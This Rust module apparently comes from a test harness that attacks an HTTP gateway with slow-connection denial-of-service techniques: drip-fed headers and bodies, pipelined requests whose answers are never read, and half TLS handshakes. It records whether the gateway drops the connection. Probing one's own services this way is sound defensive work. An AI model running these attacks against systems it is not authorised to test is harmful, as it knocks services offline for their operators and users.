//! Connections that hold the gateway's time: heads and bodies that drip, answers that nobody
//! reads, handshakes that stop half way.

use std::io;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::{Instant, timeout},
};

use super::{Attack, Attacker, DRIP, status};

/// A head, or a body, whose next byte comes just in time to look alive.
pub(super) async fn drip(attacker: &mut Attacker, turn: u64) -> io::Result<()> {
    let plan = attacker.plan.clone();
    let base = &plan.target.base;
    let first = match (plan.attack, turn % 2) {
        (Attack::SlowBodies, 0) => format!(
            "POST {base}/session HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\
             Content-Type: application/x-www-form-urlencoded\r\n\r\ngrant_type=password&username="
        ),
        // Refused for want of a login; what is announced must still not hold the connection.
        (Attack::SlowBodies, _) => format!(
            "POST {base}/Docs HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\
             Content-Type: application/json\r\n\r\n{{\"id\":\""
        ),
        _ => format!("GET {base}/BaseInfo HTTP/1.1\r\nHost: x\r\nX-Slow: "),
    };
    let mut wire = plan.target.open(Some(attacker.from)).await?;
    let started = Instant::now();
    wire.write_all(first.as_bytes()).await?;
    let (mut answer, mut piece) = (Vec::new(), [0; 512]);
    let by_gateway = loop {
        let Some(read) = attacker
            .while_it_lasts(timeout(DRIP, wire.read(&mut piece)))
            .await
        else {
            break false;
        };
        match read {
            Ok(Ok(count)) if count > 0 => {
                answer.extend_from_slice(piece.get(..count).unwrap_or_default());
            }
            Ok(_) => break true,
            // Nothing came meanwhile: the next byte.
            Err(_) if wire.write_all(b"a").await.is_err() => break true,
            Err(_) => {}
        }
        if answer.len() > 64 * 1024 {
            break false;
        }
    };
    if let Some(status) = status(&answer) {
        attacker.loot.answered(status);
        if status < 400 {
            let name = plan.attack.name();
            attacker
                .loot
                .let_through(format!("{name} answered with {status}"));
        }
    }
    attacker
        .loot
        .ended(plan.attack, started.elapsed(), by_gateway);
    Ok(())
}

/// Asks again and again for what is served without a login, and reads none of it.
pub(super) async fn never_read(attacker: &mut Attacker) -> io::Result<()> {
    let plan = attacker.plan.clone();
    let tcp = plan.target.narrow_tcp(Some(attacker.from)).await?;
    let mut wire = plan.target.shake(tcp).await?;
    let started = Instant::now();
    let requests = "GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(64);
    let asking = async {
        // Stops taking them when its own answers are stuck; then this waits to be cut.
        while wire.write_all(requests.as_bytes()).await.is_ok() {}
    };
    let by_gateway = attacker.while_it_lasts(asking).await.is_some();
    attacker
        .loot
        .ended(plan.attack, started.elapsed(), by_gateway);
    Ok(())
}

pub(super) async fn half_handshake(attacker: &mut Attacker) -> io::Result<()> {
    let plan = attacker.plan.clone();
    let mut tcp = plan.target.tcp(Some(attacker.from)).await?;
    let started = Instant::now();
    tcp.write_all(b"\x16\x03\x01\x02\x00\x01").await?;
    let mut sink = Vec::new();
    let mut bounded = tcp.take(64 * 1024);
    let end = attacker.while_it_lasts(bounded.read_to_end(&mut sink));
    let by_gateway = end.await.is_some();
    attacker
        .loot
        .ended(plan.attack, started.elapsed(), by_gateway);
    Ok(())
}
